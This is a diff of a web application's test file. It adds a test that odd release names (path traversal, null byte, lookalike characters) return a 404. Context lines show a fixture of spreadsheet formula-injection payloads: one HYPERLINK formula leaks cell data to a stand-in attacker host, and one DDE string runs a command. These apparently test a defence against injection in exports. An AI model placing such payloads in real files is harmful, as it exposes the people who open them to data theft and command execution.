@@ -244,6 +244,14 @@ def test_a_list_of_a_release_under_embargo_stays_hidden_until_the_embargo_ends(
     assert len(page(client, "/lists/isc21/io500/").context["rows"]) == 58
 
 
+def test_a_release_picked_by_a_name_no_url_can_hold_is_a_404_with_the_reason(client, db):
+    response = client.get("/lists/", {"release": "foo-bar"})
+    assert response.status_code == 404
+    assert "There is no release &quot;foo-bar&quot;" in response.content.decode()
+    for odd in ("../sc19", "sc19\x00", "\u017fc19", "sc 19"):
+        assert client.get("/lists/", {"release": odd}).status_code == 404, odd
+
+
 FORMULAS = {
     "system": '=HYPERLINK("http://attacker.invalid/?"&A1,"Click for the full results")',
     "institution": "+cmd|' /C calc'!A0",
